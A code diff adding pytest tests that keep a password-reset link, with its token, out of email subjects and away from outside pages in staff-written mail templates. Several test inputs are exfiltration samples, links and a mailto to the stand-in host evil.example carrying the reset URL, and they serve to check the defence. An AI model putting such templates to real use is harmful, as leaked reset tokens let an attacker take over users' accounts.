@@ -149,6 +149,55 @@ def test_staff_write_their_own_words_and_take_them_back() -> None:
         reset_template(event="welcome", locale="en", ctx=Context(now(), SYSTEM))
 
 
+RESET = "https://localhost:8443/client/reset-password/TOKEN"
+
+
+def reset_mail(**over: str) -> RenderedMail:
+    save(event="password_reset", **over)
+    template = rendering.template_for("password_reset", "en")
+    assert template is not None
+    values = sample_values("password_reset") | {"reset_url": RESET}
+    return render_mail(template, rendering.company_variables() | values, locale="en")
+
+
+@pytest.mark.parametrize("subject", ["{reset_url}", "Yours:{reset_url}#", "a {reset_url} b"])
+def test_no_link_stands_in_a_subject(subject: str) -> None:
+    """It is kept and shown to staff: who may write templates read how to become anybody there."""
+    assert "TOKEN" not in reset_mail(subject=subject).subject
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<a href="https://evil.example/?{reset_url}">Choose a password</a>',
+        '<a href="https://evil.example/?x= {reset_url}">Choose a password</a>',
+        "<a href=https://evil.example/{reset_url}>Choose a password</a>",
+        "<a href='mailto:eve@evil.example?body={reset_url}'>Choose a password</a>",
+        "<p>https://evil.example/?{reset_url}</p>",
+    ],
+)
+def test_no_link_is_told_to_somebody_elses_page(html: str) -> None:
+    """Who may write templates had it sent to a page of his own by whoever followed it."""
+    mail = reset_mail(html=html, text="")
+    for part in (mail.html.split("<main>")[1], mail.text):
+        assert not re.search(r"evil[^\s<]*TOKEN", part)
+        assert not re.search(r'href="[^"]*evil[^"]*TOKEN', part)
+
+
+def test_nor_is_it_in_a_text() -> None:
+    mail = reset_mail(html="", text="https://evil.example/?{reset_url}\n\nReset: {reset_url}")
+    assert f"https://evil.example/? {RESET}" in mail.text
+    assert mail.html.count(f'href="{RESET}"') == 2
+    assert 'href="https://evil' not in mail.html
+
+
+def test_a_link_of_our_own_stays_what_it_is() -> None:
+    html = '<p><a href="{reset_url}">Reset</a> (or {reset_url})</p><p>{reset_url}</p>'
+    body = reset_mail(html=html, text="").html.split("<main>")[1]
+    assert f'<a href="{RESET}">Reset</a>' in body
+    assert f"<p>{RESET}</p>" in body
+
+
 def test_the_text_is_made_from_html_that_staff_wrote() -> None:
     save(
         text="",
